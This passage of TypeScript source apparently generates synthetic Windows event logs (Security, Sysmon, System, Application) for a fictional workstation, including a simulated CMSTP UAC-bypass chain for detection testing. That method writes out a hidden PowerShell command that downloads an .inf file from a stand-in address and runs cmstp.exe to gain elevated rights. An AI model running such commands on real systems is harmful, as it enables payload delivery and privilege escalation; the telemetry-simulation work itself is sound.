        ['SubjectLogonId', hex64(a === USER ? 0x2a4d0cn : 0x3e7n)],
        ['Status', hex64(0n)],
        ['ProcessId', hex64(BigInt(p.pid))],
        ['ProcessName', p.program.image],
      ]);
    return this.securityBase(5156, 1, 12810, [
      ['ProcessID', u64(p.pid)],
      ['Application', p.program.image.replace(/^C:/, '\\device\\harddiskvolume3').toLowerCase()],
      ['Direction', '%%14593'],
      ['SourceAddress', '10.20.4.142'],
      ['SourcePort', String(this.r.int(49152, 65535))],
      ['DestAddress', `${this.r.int(13, 52)}.${this.r.int(0, 255)}.${this.r.int(0, 255)}.${this.r.int(1, 254)}`],
      ['DestPort', String(this.r.pick([443, 80, 53, 445]))],
      ['Protocol', u32(6)],
      ['FilterRTID', u64(70013)],
      ['LayerName', '%%14611'],
      ['LayerRTID', u64(48)],
      ['RemoteUserID', sid('S-1-0-0')],
      ['RemoteMachineID', sid('S-1-0-0')],
    ]);
  }

  private process4688(child: Proc, parentImage: string, parentPid: number, integrity: string): WriteEvent {
    const a = child.program.account;
    const label = integrity === 'System' ? 'S-1-16-16384' : integrity === 'High' ? 'S-1-16-12288' : 'S-1-16-8192';
    return this.securityBase(4688, 2, 13312, [
      ['SubjectUserSid', sid(a.sid)],
      ['SubjectUserName', a === SYSTEM ? 'WS-FIN-0142$' : a.name],
      ['SubjectDomainName', a.domain],
      ['SubjectLogonId', hex64(a === USER ? 0x2a4d0cn : 0x3e7n)],
      ['NewProcessId', hex64(BigInt(child.pid))],
      ['NewProcessName', child.program.image],
      ['TokenElevationType', integrity === 'High' ? '%%1937' : '%%1936'],
      ['ProcessId', hex64(BigInt(parentPid))],
      ['CommandLine', child.commandLine],
      ['TargetUserSid', sid('S-1-0-0')],
      ['TargetUserName', '-'],
      ['TargetDomainName', '-'],
      ['TargetLogonId', hex64(0n)],
      ['ParentProcessName', parentImage],
      ['MandatoryLabel', sid(label)],
    ]);
  }

  private plain(provider: string, channel: 'System' | 'Application', eventId: number, level: number, data: Array<[string, string | WriteValue]>, qualifiers?: number): WriteEvent {
    return {
      time: this.time,
      provider,
      eventId,
      ...(qualifiers === undefined ? {} : { qualifiers }),
      level,
      keywords: 0x80000000000000n,
      processId: 4,
      threadId: this.r.int(100, 9000),
      channel,
      computer: HOST,
      eventData: data,
    };
  }

  system(): WriteEvent {
    const x = this.r.next();
    if (x < 0.55) {
      const svc = this.r.pick(SERVICES);
      return this.plain('Service Control Manager', 'System', 7036, 4, [['param1', svc], ['param2', this.r.next() < 0.5 ? 'running' : 'stopped'], ['Binary', `${svc.replace(/[^a-z]/gi, '').slice(0, 12).toUpperCase()}2F0000`]], 16384);
    }
    if (x < 0.65) return this.plain('Service Control Manager', 'System', 7040, 4, [['param1', this.r.pick(SERVICES)], ['param2', 'demand start'], ['param3', 'auto start'], ['param4', this.r.pick(['BITS', 'wuauserv', 'TrustedInstaller'])]], 16384);
    if (x < 0.85)
      return this.plain('Microsoft-Windows-DistributedCOM', 'System', 10016, 3, [
        ['param1', 'application-specific'],
        ['param2', 'Local'],
        ['param3', 'Activation'],
        ['param4', '{2593F8B9-4EAF-457C-B68A-50F6B8EA6B54}'],
        ['param5', '{15C20B67-12E7-4BB6-92BB-7AFF07997402}'],
        ['param6', 'WS-FIN-0142'],
        ['param7', 'a.meyer'],
        ['param8', USER_SID],
        ['param9', 'LocalHost (Using LRPC)'],
        ['param10', 'Unavailable'],
        ['param11', 'Unavailable'],
      ], 0);
    if (x < 0.9) return this.plain('EventLog', 'System', 6013, 4, [['param1', String(this.r.int(1000, 9_000_000))], ['param2', '60'], ['param3', '60 W. Europe Standard Time']], 32768);
    return this.plain('Microsoft-Windows-Kernel-General', 'System', 16, 4, [
      ['HiveNameLength', u32(52)],
      ['HiveName', '\\??\\C:\\Users\\a.meyer\\AppData\\Local\\Microsoft\\Windows\\UsrClass.dat'],
      ['KeysUpdated', u32(this.r.int(1, 900))],
      ['DirtyPages', u32(this.r.int(1, 400))],
    ]);
  }

  application(): WriteEvent {
    const x = this.r.next();
    const p = this.any();
    const name = p.program.image.slice(p.program.image.lastIndexOf('\\') + 1);
    if (x < 0.1)
      return this.plain('Application Error', 'Application', 1000, 2, [
        ['AppName', name],
        ['AppVersion', '10.0.19041.3636'],
        ['AppTimeStamp', this.r.hex(8).toLowerCase()],
        ['ModuleName', 'ntdll.dll'],
        ['ModuleVersion', '10.0.19041.3636'],
        ['ModuleTimeStamp', this.r.hex(8).toLowerCase()],
        ['ExceptionCode', 'c0000005'],
        ['FaultingOffset', `0x${this.r.hex(16).toLowerCase()}`],
        ['ProcessId', `0x${p.pid.toString(16)}`],
        ['ProcessCreationTime', `0x${this.r.hex(16).toLowerCase()}`],
        ['AppPath', p.program.image],
        ['ModulePath', `${SYSTEM32}\\ntdll.dll`],
        ['IntegratorReportId', this.r.guid().slice(1, -1).toLowerCase()],
        ['PackageFullName', ''],
        ['PackageRelativeAppId', ''],
      ], 0);
    if (x < 0.25)
      return this.plain('Windows Error Reporting', 'Application', 1001, 4, [
        ['Bucket', String(this.r.int(1e9, 2e9))],
        ['BucketType', u32(5)],
        ['EventName', 'APPCRASH'],
        ['Response', 'Not available'],
        ['CabId', '0'],
        ['P1', name],
        ['P2', '10.0.19041.3636'],
        ['AttachedFiles', `\\\\?\\C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\WER${this.r.hex(4)}.tmp.WERInternalMetadata.xml`],
        ['StorePath', `\\\\?\\C:\\ProgramData\\Microsoft\\Windows\\WER\\ReportArchive\\AppCrash_${name}_${this.r.hex(40).toLowerCase()}`],
        ['ReportId', this.r.guid().slice(1, -1).toLowerCase()],
      ], 0);
    if (x < 0.6) return this.plain('Microsoft-Windows-Security-SPP', 'Application', 16384, 4, [['param1', `${new Date(this.ms + 86_400_000).toISOString()}`], ['param2', 'RulesEngine']], 16384);
    if (x < 0.9) {
      const session = String(this.r.int(0, 9));
      return this.r.next() < 0.5
        ? this.plain('Microsoft-Windows-RestartManager', 'Application', 10000, 4, [['RmSessionId', u32(Number(session))], ['UTCStartTime', { type: 'systemtime', value: this.time }]])
        : this.plain('Microsoft-Windows-RestartManager', 'Application', 10001, 4, [['RmSessionId', u32(Number(session))], ['UTCStartTime', { type: 'systemtime', value: this.time }]]);
    }
    return this.plain('ESENT', 'Application', 916, 4, [['param1', 'svchost'], ['param2', String(p.pid)], ['param3', 'SRUJet: '], ['param4', 'the beta feature EseDiskFlushConsistency'], ['param5', 'enabled'], ['param6', u8(0)]], 0);
  }

  /** The CMSTP UAC bypass, as Sysmon or Security auditing records it. */
  *cmstp(key: 'sysmon' | 'security'): Generator<WriteEvent, void, undefined> {
    const ps = PROGRAMS[7]!;
    const user = (p: Program): Program => ({ ...p, account: USER, integrity: 'Medium' });
    const inf = `C:\\Users\\a.meyer\\AppData\\Local\\Temp\\${this.r.hex(6).toLowerCase()}.inf`;
    const powershell: Proc = {
      guid: this.r.guid(),
      pid: this.r.pid(),
      program: user(ps),
      commandLine: `powershell.exe -NoProfile -WindowStyle Hidden -Command "$p=\\"${inf}\\"; (New-Object Net.WebClient).DownloadFile('https://203.0.113.${this.r.int(2, 250)}/vpn.inf',$p); cmstp.exe /s /ns $p /au"`,
    };
    const cmstpProgram: Program = { image: `${SYSTEM32}\\cmstp.exe`, pe: pe(`${SYSTEM32}\\cmstp.exe`, 'Microsoft Connection Manager Profile Installer', 'CMSTP.EXE', '7.2.19041.1 (WinBuild.160101.0800)'), account: USER, integrity: 'Medium', commandLine: () => '', parent: '', weight: 0 };
    const cmstp: Proc = { guid: this.r.guid(), pid: this.r.pid(), program: cmstpProgram, commandLine: `"C:\\Windows\\system32\\cmstp.exe" /s /ns ${inf} /au` };
    const dllhostProgram: Program = { image: `${SYSTEM32}\\dllhost.exe`, pe: pe(`${SYSTEM32}\\dllhost.exe`, 'COM Surrogate', 'dllhost.exe'), account: USER, integrity: 'High', commandLine: () => '', parent: '', weight: 0 };
    const dllhost: Proc = { guid: this.r.guid(), pid: this.r.pid(), program: dllhostProgram, commandLine: `C:\\Windows\\System32\\DllHost.exe /Processid:${CMSTPLUA}` };
    const cmdProgram: Program = { ...PROGRAMS[8]!, account: USER, integrity: 'High' };
    const cmd: Proc = { guid: this.r.guid(), pid: this.r.pid(), program: cmdProgram, commandLine: '"C:\\Windows\\system32\\cmd.exe" /c whoami /groups > C:\\Users\\Public\\g.txt' };
    const explorer = { image: 'C:\\Windows\\explorer.exe', cmd: 'C:\\Windows\\Explorer.EXE', guid: '{B1C7D3A2-4E6F-61C2-1C00-000000000A00}', pid: 6348 };
    const dcom = { image: `${SYSTEM32}\\svchost.exe`, cmd: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p', guid: '{B1C7D3A2-4E6F-61C2-0C00-000000000A00}', pid: 812 };
    if (key === 'sysmon') {
      this.advance();
      yield this.processCreate(powershell, explorer.image, explorer.cmd, explorer.guid, explorer.pid, 'Medium');
      this.advance();
      yield this.sysmonBase(11, 2, [['RuleName', '-'], ['UtcTime', this.utc()], ['ProcessGuid', g(powershell.guid)], ['ProcessId', u32(powershell.pid)], ['Image', powershell.program.image], ['TargetFilename', inf], ['CreationUtcTime', this.utc()], ['User', `${DOMAIN}\\a.meyer`]]);
      this.advance();
      yield this.processCreate(cmstp, powershell.program.image, powershell.commandLine, powershell.guid, powershell.pid, 'Medium', 'technique_id=T1218.003,technique_name=CMSTP');
      this.advance();
      yield this.processCreate(dllhost, dcom.image, dcom.cmd, dcom.guid, dcom.pid, 'High');
      this.advance();
      yield this.processCreate(cmd, dllhost.program.image, dllhost.commandLine, dllhost.guid, dllhost.pid, 'High');
    } else {
      this.advance();
      yield this.process4688(powershell, explorer.image, explorer.pid, 'Medium');
      this.advance();
      yield this.process4688(cmstp, powershell.program.image, powershell.pid, 'Medium');
      this.advance();
      yield this.process4688(dllhost, dcom.image, dcom.pid, 'High');
      this.advance();
      yield this.process4688(cmd, dllhost.program.image, dllhost.pid, 'High');
    }
  }
}
